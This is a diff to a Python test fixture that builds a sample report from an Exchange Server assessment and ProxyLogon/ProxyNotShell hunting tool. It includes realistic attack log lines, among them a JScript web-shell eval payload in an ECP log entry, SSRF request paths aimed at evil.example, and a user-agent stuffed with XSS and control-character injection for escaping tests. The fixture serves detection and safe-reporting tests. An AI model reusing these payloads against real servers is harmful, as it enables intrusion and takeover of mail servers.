@@ -1,12 +1,18 @@
-"""A realistic report.json (format version 1, extended) shared by the report writer tests.
+"""A realistic report.json (format version 1, extended with the hunt) shared by the report writer tests.
 
 Four hosts:
-- ex16: Exchange 2016 CU19 without SU, hit by ProxyLogon in March 2021 (HttpProxy lines,
-  OAB generator write, web shell in aspnet_client) -> vulnerable and compromised;
-- ex19: Exchange 2019 CU15 May25HU, fully patched, nothing found;
-- ex13-broken: evidence bundle with a damaged server.json -> status error;
-- edge01: Edge Transport whose IIS log line carries hostile text (markup, a pipe, a CDATA end
-  and a BEL control character) and whose logs are too short to rule out compromise.
+- ex13-broken: evidence bundle with a damaged server.json -> status error, hunt not run;
+- ex16: Exchange 2016 CU19 without SU, hit by ProxyLogon in March 2021 (HttpProxy SSRF, ECP
+  virtual-directory script, OAB generator write, a planted page) -> vulnerable and compromised:
+  yes, although its logs reach back over only part of the exposure window;
+- ex16-patched: Exchange 2016 CU23 Apr25HU, scanned in 2025 with a ProxyNotShell request whose
+  IIS log line carries hostile text (markup, an attribute break-out, ANSI colour, NUL, BEL, a
+  right-to-left override, a pipe, a CDATA end, backticks) -> two attempts, compromise unknown
+  (one source capped, one missing, the 2022 exposure window not covered);
+- ex19: Exchange 2019 CU15 May25HU, every source read, never exposed -> compromised: no.
+
+Log lines are those of shared reference log-formats.md sections 2, 3, 4 and 7 (server names
+changed to ex16); rule ids are those of indicators.md.
 """
 
 from __future__ import annotations
@@ -14,29 +20,88 @@ from __future__ import annotations
 import copy
 from typing import Any
 
-HOSTILE_DETAIL = (
-    "2025-06-01 03:12:44 10.0.20.5 GET /autodiscover/autodiscover.json "
-    "@evil.example/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example&Protocol=Powershell "
-    "443 - 198.51.100.7 Mozilla/5.0+<script>alert(1)</script>| pipe ]]> `tick` \x07 - 404 0 0 15"
-)
+EXCHANGE = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\"
+HTTPPROXY_LOG = EXCHANGE + "Logging\\HttpProxy\\Ecp\\HttpProxy_2021030306-1.LOG"
+ECP_LOG = EXCHANGE + "Logging\\ECP\\Server\\ECPServer20210303-1.LOG"
+OABGEN_LOG = EXCHANGE + "Logging\\OABGeneratorLog\\OABGenerator_2021030306-1.LOG"
+IIS_LOG_2021 = "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210305.log"
+IIS_LOG_2025 = "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex250601.log"
+WEBSHELL = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\shell.aspx"
+
+# log-formats.md section 2: ProxyLogon SSRF, first request (autodiscover only) and the ECP session (241).
 AUTODISCOVER_LINE = (
     "2021-03-03T06:49:42.162Z,8d2b6f1e-3c4a-4f5b-9e7d-1a2b3c4d5e6f,15,1,2176,2,,Ecp,mail.contoso.com,/ecp/y.js,,,"
     "false,,,ServerInfo~a]@ex16.contoso.local:444/autodiscover/autodiscover.xml?#,ExchangeServicesClient/0.0.0.0,"
-    "203.0.113.45,EX16,200,200,,POST,Proxy,ex16.contoso.local:444,,,X-BEResource-Cookie"
+    "203.0.113.45,EX16,200,200,,POST,Proxy,ex16.contoso.local:444,,,X-BEResource-Cookie" + "," * 46 + "CafeV1"
 )
 PROXYLOGON_LINE = (
     "2021-03-03T06:49:46.210Z,0b9e4c2d-7f1a-4e3b-8c5d-6a7b8c9d0e1f,15,1,2176,2,,Ecp,mail.contoso.com,/ecp/y.js,,,"
     "false,,,ServerInfo~a]@ex16.contoso.local:444/ecp/proxyLogon.ecp?#,python-requests/2.25.1,"
-    "203.0.113.45,EX16,241,241,,POST,Proxy,ex16.contoso.local:444,,,X-BEResource-Cookie"
+    "203.0.113.45,EX16,241,241,,POST,Proxy,ex16.contoso.local:444,,,X-BEResource-Cookie" + "," * 46 + "CafeV1"
 )
-WEBSHELL = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx"
-EXCHANGE_LOGGING = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\"
-HTTPPROXY_LOG = EXCHANGE_LOGGING + "HttpProxy\\Ecp\\HttpProxy_2021030306-1.LOG"
-OABGEN_LOG = EXCHANGE_LOGGING + "OABGeneratorLog\\OABGenerator_2021030307-1.LOG"
+# log-formats.md section 3: the web shell's markup stuffed into the OAB virtual directory's ExternalUrl.
+ECP_ATTACK_LINE = (
+    '2021-03-03T06:49:53.772Z,EX16,ECP.Request,"S:TIME=1873;S:SID=4b3f0d5e-1c2a-4e6b-9f7d-2a1b3c4d5e6f;'
+    "'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">"
+    "function Page_Load(){eval(Request[\"\"klk123456\"\"],\"\"unsafe\"\");}</script>''."
+    "Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3''';S:REQID=;"
+    "S:URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=M1xSxxxDuw.&schema=OABVirtualDirectory;"
+    'S:REFERRER=;S:EX=;S:RS=0;S:BLD=15.1.2176.2"'
+)
+# log-formats.md section 4 (the surrounding fields are not published).
+OABGEN_LINE = (
+    f"2021-03-03T06:52:19.904Z,… Download failed and temporary file '{WEBSHELL}' needs to be removed …"
+)
+# log-formats.md section 7: a planted page that answers 200.
+WEBSHELL_ACCESS_LINE = (
+    "2021-03-05 03:06:27 10.0.10.11 GET /owa/auth/RedirSuiteServerProxy.aspx &CorrelationID=<empty>;"
+    "&cafeReqId=cde28fc4-299e-4179-b3e9-de56f5c1d9ee;&encoding=; 443 - 198.51.100.199 "
+    "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/65.0.2345+Safari/537.36"
+    " - 200 0 0 133"
+)
+# A ProxyNotShell request (log-formats.md section 7 shape) whose user agent carries everything a
+# hostile client can put into a log line.
+HOSTILE_EVIDENCE = (
+    "2025-06-01 03:12:44 10.0.10.11 POST /autodiscover/autodiscover.json "
+    "@evil.example/owa/&Email=autodiscover/autodiscover.json%3F@evil.example&Protocol=XYZ&FooProtocol=%50owershell"
+    "&CorrelationID=<empty>;&cafeReqId=a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d; 443 - 198.51.100.7 "
+    'Mozilla/5.0+<script>alert(1)</script>"><img+src=x+onerror=alert(2)>\x1b[31mRED\x1b[0m\x00NUL\x07'
+    "+x\u202excod.aspx| pipe ]]> `tick` ``` - 401 1 2148074254 15"
+)
+# What a reader sees once control characters are removed and the RTL override is made visible.
+HOSTILE_SHOWN = (HOSTILE_EVIDENCE.replace("\x1b", "").replace("\x00", "").replace("\x07", "")
+                 .replace("\u202e", "[U+202E]"))
 
 
 def _cve(status: str, fixed_by: str | None, reason: str) -> dict[str, Any]:
     return {"status": status, "fixed_by": fixed_by, "reason": reason}
+
+
+def _stream(required: bool, files: int, lines: int, first: str | None, last: str | None,
+            **extra: Any) -> dict[str, Any]:
+    stats = {"present": files > 0, "required": required, "files": files, "lines": lines, "bytes": lines * 310,
+             "first": first, "last": last, "warnings": [], "capped": False}
+    stats.update(extra)
+    return stats
+
+
+def _window(attack: str, cves: list[str], began: str, start: str | None, end: str | None, basis: str,
+            exposed: bool, covered: float | None) -> dict[str, Any]:
+    attacks = [attack, "OWASSRF"] if attack == "ProxyNotShell" else [attack]
+    return {"attack": attack, "attacks": attacks, "cves": cves, "exploitation_began": began, "exposed": exposed,
+            "start": start, "end": end, "end_basis": basis, "covered_percent": covered}
+
+
+PROXYLOGON_CVES = ["CVE-2021-26855", "CVE-2021-26857", "CVE-2021-26858", "CVE-2021-27065"]
+PROXYSHELL_CVES = ["CVE-2021-34473", "CVE-2021-34523", "CVE-2021-31207"]
+PROXYNOTSHELL_CVES = ["CVE-2022-41040", "CVE-2022-41082", "CVE-2022-41080"]
+
+
+def _finding(rule: str, title: str, attack: str, cves: list[str], severity: str, source: str, line: int | None,
+             time: str, detail: str, evidence: str, attempt: bool = False) -> dict[str, Any]:
+    return {"rule": rule, "cve": cves[0] if cves else None, "cves": cves, "severity": severity, "source": source,
+            "line": line, "time": time, "detail": detail, "title": title, "attack": attack, "evidence": evidence,
+            "attempt": attempt}
 
 
 def _ex16() -> dict[str, Any]:
@@ -56,6 +121,52 @@ def _ex16() -> dict[str, Any]:
         "CVE-2022-41040": _cve("vulnerable", "Nov22SU", "CU19 gets no Nov22SU; a newer CU is needed"),
         "CVE-2022-41082": _cve("vulnerable", "Nov22SU", "CU19 gets no Nov22SU; a newer CU is needed"),
     }
+    indicators = [
+        _finding("PL-26855-HTTPPROXY", "ProxyLogon SSRF to a back-end path (HttpProxy)", "ProxyLogon",
+                 ["CVE-2021-26855"], "critical", HTTPPROXY_LOG, 8, "2021-03-03T06:49:46.210Z",
+                 "AnchorMailbox ServerInfo~a]@ex16.contoso.local:444/ecp/proxyLogon.ecp?# from 203.0.113.45, "
+                 "status 241", PROXYLOGON_LINE),
+        _finding("PL-27065-ECPSERVER", "Script stuffed into a virtual-directory URL (ECP Server log)", "ProxyLogon",
+                 ["CVE-2021-27065"], "critical", ECP_LOG, 5, "2021-03-03T06:49:53.772Z",
+                 "Set-OabVirtualDirectory with a script block in ExternalUrl", ECP_ATTACK_LINE),
+        _finding("PL-26858-OABGEN", "Arbitrary file write through the OAB generator", "ProxyLogon",
+                 ["CVE-2021-26858"], "critical", OABGEN_LOG, 31, "2021-03-03T06:52:19.904Z",
+                 f"temporary file '{WEBSHELL}' outside {EXCHANGE}ClientAccess\\OAB", OABGEN_LINE),
+        _finding("PL-WEBSHELL-ACCESS", "Request to a planted page", "Webshell", [], "high", IIS_LOG_2021, 12,
+                 "2021-03-05T03:06:27Z", "GET /owa/auth/RedirSuiteServerProxy.aspx from 198.51.100.199, status 200",
+                 WEBSHELL_ACCESS_LINE),
+        _finding("PL-26855-BLOG", "Unauthenticated ServerInfo~ request (HAFNIUM blog query)", "ProxyLogon",
+                 ["CVE-2021-26855"], "medium", HTTPPROXY_LOG, 7, "2021-03-03T06:49:42.162Z",
+                 "AnchorMailbox ServerInfo~a]@ex16.contoso.local:444/autodiscover/autodiscover.xml?# "
+                 "from 203.0.113.45", AUTODISCOVER_LINE),
+    ]
+    hunt = {
+        "status": "done", "error": None, "rules": 41,
+        "sources": {
+            "Application": _stream(True, 1, 18422, "2021-02-20T00:00:04.000Z", "2021-03-08T09:58:40.000Z"),
+            "ECP": _stream(True, 17, 5120, "2021-02-07T00:01:18.223Z", "2021-03-08T09:59:12.000Z"),
+            "HttpProxy": _stream(True, 412, 126000, "2021-02-07T09:00:01.000Z", "2021-03-08T09:59:58.000Z"),
+            "IIS": _stream(False, 30, 120311, "2021-02-07T00:00:00.000Z", "2021-03-08T09:59:59.000Z"),
+            "MSExchangeManagement": _stream(True, 1, 311, "2021-01-12T14:02:00.000Z", "2021-03-08T09:12:31.000Z"),
+            "OABGenerator": _stream(True, 30, 912, "2021-02-07T06:00:00.000Z", "2021-03-08T06:00:02.000Z"),
+            "RpsHttp": _stream(False, 0, 0, None, None),
+            "SystemFiles": _stream(False, 58, 0, None, None,
+                                   warnings=["C:\\Windows\\Temp\\xx.bat: first 64 KiB of 1.2 MiB copied"]),
+            "WebFolders": _stream(True, 214, 0, None, None),
+        },
+        "exposure": [
+            _window("ProxyLogon", PROXYLOGON_CVES, "2021-01-06", "2021-01-06", "2021-03-08",
+                    "open when collected (CVE-2021-26855 vulnerable)", True, 26.7),
+            _window("ProxyShell", PROXYSHELL_CVES, "2021-08-05", "2021-08-05", "2021-03-08",
+                    "open when collected (CVE-2021-31207 vulnerable)", False, 100.0),
+            _window("ProxyNotShell", PROXYNOTSHELL_CVES, "2022-08-01", "2022-08-01", "2021-03-08",
+                    "open when collected (CVE-2022-41040 vulnerable)", False, 100.0),
+        ],
+        "coverage_percent": 26.7, "min_coverage_percent": 90.0,
+        "logs_from": "2021-02-20T00:00:04Z", "logs_to": "2021-03-08T06:00:02Z",
+        "reasons": [], "excluded": {"PL-26855-HTTPPROXY": 3, "PL-26858-OABGEN": 12},
+        "findings_total": 5, "findings_shown": 5, "warnings": [],
+    }
     return {
         "status": "ok",
         "error": None,
@@ -71,20 +182,8 @@ def _ex16() -> dict[str, Any]:
         },
         "cves": {cve: detail["status"] for cve, detail in details.items()},
         "cve_details": details,
-        "indicators": [
-            {"rule": "PL-26855-BLOG", "cve": "CVE-2021-26855", "severity": "medium", "source": HTTPPROXY_LOG,
-             "line": 7, "time": "2021-03-03T06:49:42.162Z", "detail": AUTODISCOVER_LINE},
-            {"rule": "PL-26855-HTTPPROXY", "cve": "CVE-2021-26855", "severity": "critical",
-             "source": HTTPPROXY_LOG, "line": 8, "time": "2021-03-03T06:49:46.210Z",
-             "detail": PROXYLOGON_LINE},
-            {"rule": "PL-26858-OABGEN", "cve": "CVE-2021-26858", "severity": "critical", "source": OABGEN_LOG,
-             "line": 31, "time": "2021-03-03T06:51:02.000Z",
-             "detail": f"Download failed and temporary file '{WEBSHELL}' needs to be removed"},
-            {"rule": "PL-WEBSHELL-ASPNET-CLIENT", "cve": None, "severity": "critical", "source": WEBSHELL,
-             "line": None, "time": "2021-03-03T06:51:03Z",
-             "detail": "ASPX file in aspnet_client (nothing legitimate lives there); SHA-256 "
-                       "893cd3583b49cb706b3e55ecb2ed0757b977a21f5c72e041392d1256f31166e2"},
-        ],
+        "indicators": indicators,
+        "hunt": hunt,
         "verdict": {"vulnerable": True, "compromised": "yes"},
         "next_step": {
             "action": "investigate", "target_cu": "CU23", "target_su": "May25HU",
@@ -104,6 +203,8 @@ def _ex19() -> dict[str, Any]:
     details = {cve: _cve("patched", None, "included in 2019 CU15") for cve in cves}
     details["CVE-2025-53786"] = _cve("patched", "Apr25HU", "15.2.1748.26 >= Apr25HU 15.2.1748.24")
     details["CVE-2021-26857"] = _cve("not_applicable", "Mar21SU", "no Unified Messaging in Exchange 2019")
+    month = ("2025-05-11T00:00:03.000Z", "2025-06-10T09:27:58.000Z")
+    installed = "installed on 2025-02-18, after the fix"
     return {
         "status": "ok",
         "error": None,
@@ -120,6 +221,28 @@ def _ex19() -> dict[str, Any]:
         "cves": {cve: detail["status"] for cve, detail in details.items()},
         "cve_details": details,
         "indicators": [],
+        "hunt": {
+            "status": "done", "error": None, "rules": 41,
+            "sources": {
+                "Application": _stream(True, 1, 20554, *month),
+                "ECP": _stream(True, 30, 8410, *month),
+                "HttpProxy": _stream(True, 388, 210440, *month),
+                "MSExchangeManagement": _stream(True, 1, 902, *month),
+                "OABGenerator": _stream(True, 30, 1210, *month),
+                "WebFolders": _stream(True, 187, 0, None, None),
+            },
+            "exposure": [
+                _window("ProxyLogon", PROXYLOGON_CVES, "2021-01-06", "2025-02-18", "2025-02-18",
+                        f"{installed} (included in 2019 CU15)", False, 100.0),
+                _window("ProxyShell", PROXYSHELL_CVES, "2021-08-05", "2025-02-18", "2025-02-18",
+                        f"{installed} (included in 2019 CU15)", False, 100.0),
+                _window("ProxyNotShell", PROXYNOTSHELL_CVES, "2022-08-01", "2025-02-18", "2025-02-18",
+                        f"{installed} (included in 2019 CU15)", False, 100.0),
+            ],
+            "coverage_percent": 100.0, "min_coverage_percent": 90.0,
+            "logs_from": month[0], "logs_to": month[1],
+            "reasons": [], "excluded": {}, "findings_total": 0, "findings_shown": 0, "warnings": [],
+        },
         "verdict": {"vulnerable": False, "compromised": "no"},
         "next_step": {"action": "none", "target_cu": "CU15", "target_su": "May25HU",
                       "target_build": "15.2.1748.26",
@@ -130,6 +253,7 @@ def _ex19() -> dict[str, Any]:
 
 def _ex13_broken() -> dict[str, Any]:
     reason = "server.json is not valid JSON: Expecting ',' delimiter: line 14 column 5 (char 412)"
+    hunt_error = f"no evidence to hunt: {reason}"
     return {
         "status": "error",
         "error": reason,
@@ -143,6 +267,9 @@ def _ex13_broken() -> dict[str, Any]:
         "cves": {"CVE-2021-26855": "unknown", "CVE-2022-41040": "unknown"},
         "cve_details": {},
         "indicators": [],
+        "hunt": {"status": "not_run", "error": hunt_error, "rules": 0, "sources": {}, "exposure": [],
+                 "coverage_percent": None, "min_coverage_percent": 90.0, "reasons": [hunt_error], "excluded": {},
+                 "findings_total": 0, "findings_shown": 0, "warnings": []},
         "verdict": {"vulnerable": None, "compromised": "unknown"},
         "next_step": {"action": "investigate", "target_cu": None, "target_su": None, "target_build": None,
                       "summary": f"Not assessed: {reason}. Collect the server's facts again; "
@@ -151,40 +278,77 @@ def _ex13_broken() -> dict[str, Any]:
     }
 
 
-def _edge01() -> dict[str, Any]:
+def _ex16_patched() -> dict[str, Any]:
     details = {
-        "CVE-2021-26855": _cve("patched", "Mar21SU", "2019 CU14 contains Mar21SU"),
-        "CVE-2021-1730": _cve("not_applicable", None, "Edge Transport has no OWA"),
+        "CVE-2021-26855": _cve("patched", "Mar21SU", "2016 CU23 contains Mar21SU"),
+        "CVE-2022-41040": _cve("patched", "Nov22SU", "15.1.2507.55 >= Nov22SU 15.1.2507.16"),
+        "CVE-2022-41082": _cve("patched", "Nov22SU", "15.1.2507.55 >= Nov22SU 15.1.2507.16"),
         "CVE-2023-36434": _cve("unknown", None, "IIS TokenCacheModule version not collected"),
-        "CVE-2025-53786": _cve("patched", "Apr25HU", "15.2.1544.25 >= Apr25HU 15.2.1544.25"),
+        "CVE-2025-53786": _cve("patched", "Apr25HU", "15.1.2507.55 >= Apr25HU 15.1.2507.55"),
     }
+    month = ("2025-05-11T00:00:01.000Z", "2025-06-10T09:28:40.000Z")
+    scan = "autodiscover and powershell in the decoded URI from 198.51.100.7, status 401"
+    uncovered = "logs cover 0% of the ProxyNotShell exposure window (2022-08-01 to 2022-11-10; minimum 90%)"
     return {
         "status": "ok",
         "error": None,
         "source": "live",
-        "evidence_dir": "evidence/20250610T093000Z/edge01",
-        "hostname": "EDGE01<b>|`x`",
-        "fqdn": "edge01.dmz.contoso.local",
+        "evidence_dir": "evidence/20250610T093000Z/ex16-patched",
+        "hostname": "EX16-PATCHED<b>|`x`",
+        "fqdn": "ex16-patched.contoso.local",
         "collected_at": "2025-06-10T09:29:40Z",
         "exchange": {
-            "product": "Exchange Server 2019", "cu": "CU14", "su": "Apr25HU", "build": "15.2.1544.25",
-            "supported": True, "latest": False, "support_end": "2025-10-14", "roles": ["Edge"],
-            "edge": True, "dag": None, "site": None, "build_note": None,
+            "product": "Exchange Server 2016", "cu": "CU23", "su": "Apr25HU", "build": "15.1.2507.55",
+            "supported": True, "latest": False, "support_end": "2025-10-14", "roles": ["Mailbox"],
+            "edge": False, "dag": None, "site": "BRANCH", "build_note": None,
         },
         "cves": {cve: detail["status"] for cve, detail in details.items()},
         "cve_details": details,
         "indicators": [
-            {"rule": "PNS-IIS-AUTODISCOVER", "cve": "CVE-2022-41040", "severity": "low",
-             "source": "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex250601.log", "line": 42,
-             "time": "2025-06-01T03:12:44Z", "detail": HOSTILE_DETAIL},
+            _finding("PNS-IIS-AUTODISCOVER-POWERSHELL", "ProxyNotShell autodiscover request to PowerShell (IIS)",
+                     "ProxyNotShell", ["CVE-2022-41040", "CVE-2022-41082"], "high", IIS_LOG_2025, 42,
+                     "2025-06-01T03:12:44Z", scan, HOSTILE_EVIDENCE, attempt=True),
+            _finding("PS-IIS-AUTODISCOVER", "ProxyShell autodiscover path confusion (IIS)", "ProxyShell",
+                     PROXYSHELL_CVES, "medium", IIS_LOG_2025, 42, "2025-06-01T03:12:44Z", scan, HOSTILE_EVIDENCE,
+                     attempt=True),
         ],
+        "hunt": {
+            "status": "done", "error": None, "rules": 41,
+            "sources": {
+                "Application": _stream(True, 1, 250000, *month, capped=True,
+                                       warnings=["Application.evtx: 250000 of 1840311 events kept (cap hit)"]),
+                "ECP": _stream(True, 30, 7802, *month),
+                "HttpProxy": _stream(True, 402, 198220, *month),
+                "IIS": _stream(False, 30, 301822, *month),
+                "MSExchangeManagement": _stream(True, 0, 0, None, None),
+                "OABGenerator": _stream(True, 30, 1190, *month),
+                "WebFolders": _stream(True, 190, 0, None, None),
+            },
+            "exposure": [
+                _window("ProxyLogon", PROXYLOGON_CVES, "2021-01-06", "2022-06-14", "2021-03-02",
+                        "installed on 2022-06-14, after the fix (Mar21SU)", False, 100.0),
+                _window("ProxyShell", PROXYSHELL_CVES, "2021-08-05", "2022-06-14", "2021-05-11",
+                        "installed on 2022-06-14, after the fix (May21SU)", False, 100.0),
+                _window("ProxyNotShell", PROXYNOTSHELL_CVES, "2022-08-01", "2022-08-01", "2022-11-10",
+                        "Nov22SU installed on 2022-11-10 (installed_updates)", True, 0.0),
+            ],
+            "coverage_percent": 0.0, "min_coverage_percent": 90.0,
+            "logs_from": month[0], "logs_to": month[1],
+            "reasons": [
+                "Application: not fully read (a size cap was hit or a check could not run)",
+                "MSExchangeManagement: not in the evidence",
+                uncovered,
+            ],
+            "excluded": {"PNS-IIS-AUTODISCOVER-POWERSHELL": 4}, "findings_total": 2, "findings_shown": 2,
+            "warnings": [],
+        },
         "verdict": {"vulnerable": False, "compromised": "unknown"},
-        "next_step": {"action": "install_su", "target_cu": "CU14", "target_su": "May25HU",
-                      "target_build": "15.2.1544.27",
-                      "summary": "Install May25HU (15.2.1544.27, KB5057652) on CU14."},
+        "next_step": {"action": "install_su", "target_cu": "CU23", "target_su": "May25HU",
+                      "target_build": "15.1.2507.57",
+                      "summary": "Install May25HU (15.1.2507.57, KB5057653) on CU23."},
         "warnings": [
             {"code": "iis_log_retention_short",
-             "message": "IIS logs start 2025-05-28 | older attacks cannot be ruled out [see](http://evil.example/x)"},
+             "message": "IIS logs start 2025-05-11 | older attacks cannot be ruled out [see](http://evil.example/x)"},
         ],
     }
 
@@ -194,11 +358,22 @@ _REPORT: dict[str, Any] = {
     "generated_at": "2025-06-10T09:30:00Z",
     "run": {"playbook": "playbooks/assess.yml", "check_mode": True, "ansible_version": "2.17.4"},
     "summary": {"hosts": 4, "ok": 3, "error": 1, "vulnerable": 1, "compromised": 1, "compromised_unknown": 2,
-                "unsupported": 1},
-    "hosts": {"ex16": _ex16(), "ex19": _ex19(), "ex13-broken": _ex13_broken(), "edge01": _edge01()},
+                "unsupported": 1, "compromised_no": 1, "hunted": 3, "indicators": 7, "indicators_critical": 3,
+                "indicators_high": 1, "indicators_medium": 1, "indicators_low": 0, "indicators_attempt": 2},
+    "hosts": {"ex16": _ex16(), "ex19": _ex19(), "ex13-broken": _ex13_broken(), "ex16-patched": _ex16_patched()},
 }
 
 
 def sample_report() -> dict[str, Any]:
     """A fresh copy each call, so a test may mutate it freely."""
     return copy.deepcopy(_REPORT)
+
+
+def without_hunt(report: dict[str, Any]) -> dict[str, Any]:
+    """The same report as the assessment wrote it before the hunt existed: no hunt key, no findings,
+    compromise unknown everywhere."""
+    for host in report["hosts"].values():
+        host.pop("hunt", None)
+        host["indicators"] = []
+        host["verdict"]["compromised"] = "unknown"
+    return report
